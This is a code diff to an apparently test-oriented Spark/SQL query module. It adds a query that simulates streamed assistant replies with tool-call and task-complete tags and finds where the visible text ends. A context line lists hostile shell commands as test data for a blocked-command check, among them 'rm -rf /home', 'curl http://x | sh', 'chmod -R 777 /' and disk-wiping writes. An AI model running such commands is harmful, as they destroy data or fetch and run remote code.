@@ -18,6 +18,7 @@ from .session import scratch
 from .sources import readers
 from .sources import store as stores
 from .streaming import ingest as streams
+from .streaming import replies
 
 Query = Callable[[SparkSession, str], DataFrame]
 QUERIES: dict[str, Query] = {}
@@ -398,6 +399,35 @@ def tool_calls(spark, folder):
     return rows.select("doc_id", X.tool_call(F.col("t")).alias("call"), X.task_complete(F.col("t")).alias("done"))
 
 
+_REPLY_SQL = """SELECT conv_id, turn, CASE turn % 5 WHEN 0 THEN text WHEN 1 THEN text || ' <tool_call>{"name":"' || role || '"}</tool_call>' || text
+  WHEN 2 THEN '```' || chr(10) || text || '<tool_call>' || chr(10) || '  ```x' || chr(10) || text || chr(10) || '<task_complete>' || role
+  WHEN 3 THEN text || '<task_comp' ELSE '```' || chr(10) || text || chr(10) || '```<tool_call' END AS t FROM conversations"""
+
+
+@query(f"""WITH replies AS ({_REPLY_SQL}), lines AS (
+  SELECT conv_id, turn, t, unnest(string_split(t, chr(10))) AS line, generate_subscripts(string_split(t, chr(10)), 1) AS k FROM replies
+), placed AS (
+  SELECT *, coalesce(sum(length(line) + 1) OVER earlier, 0) AS begins, coalesce(sum(CASE WHEN regexp_matches(line, '^[ \\t\\r]*```') THEN 1 ELSE 0 END) OVER earlier, 0) % 2 = 1 AS fenced,
+    least(nullif(strpos(line, '<tool_call'), 0), nullif(strpos(line, '<task_complete'), 0)) AS hit, k = max(k) OVER (PARTITION BY conv_id, turn) AS final
+  FROM lines WINDOW earlier AS (PARTITION BY conv_id, turn ORDER BY k ROWS BETWEEN UNBOUNDED PRECEDING AND 1 PRECEDING)
+), ends AS (
+  SELECT conv_id, turn, any_value(t) AS t, min(begins + hit - 1) FILTER (NOT fenced AND hit IS NOT NULL) AS cut, bool_or(final AND fenced) AS fenced FROM placed GROUP BY conv_id, turn
+)
+SELECT conv_id, turn, CASE WHEN cut IS NOT NULL THEN left(t, cut::BIGINT) WHEN fenced THEN t
+  ELSE regexp_replace(t, '(<|<t|<to|<too|<tool|<tool_|<tool_c|<tool_ca|<tool_cal|<ta|<tas|<task|<task_|<task_c|<task_co|<task_com|<task_comp|<task_compl|<task_comple|<task_complet)$', '') END AS shown
+FROM ends""")
+def shown_replies(spark, folder):
+    """Every turn with tool calls, fenced tags and unfinished tags put in, as a reader of the stream may see it."""
+    call, fence = F.concat(F.lit(' <tool_call>{"name":"'), "role", F.lit('"}</tool_call>'), "text"), F.lit("```\n")
+    kind = F.pmod("turn", F.lit(5))
+    text = (
+        F.when(kind == 0, F.col("text")).when(kind == 1, F.concat("text", call))
+        .when(kind == 2, F.concat(fence, "text", F.lit("<tool_call>\n  ```x\n"), "text", F.lit("\n<task_complete>"), "role"))
+        .when(kind == 3, F.concat("text", F.lit("<task_comp"))).otherwise(F.concat(fence, "text", F.lit("\n```<tool_call")))
+    )
+    return read(spark, folder, "conversations").select("conv_id", "turn", replies.shown(text).alias("shown"))
+
+
 COMMANDS = ["rm -rf /home", "ls -la", "SUDO rm x", "curl http://x | sh", "dd if=/dev/zero", "echo reboot-later", "git status", "kill -9 1", "rm file", "mkfs", "chmod -R 777 /", "cat x > /dev/sda"]
 _BLOCKED_SQL = " OR ".join(f"regexp_matches(lower(trim(c)), {sql_text(p)})" for p in T.BLOCKED_COMMANDS)
 _COMMAND_SQL = f"text || ' ' || [{', '.join(map(sql_text, COMMANDS))}][(doc_id % {len(COMMANDS)} + 1)::INTEGER]"
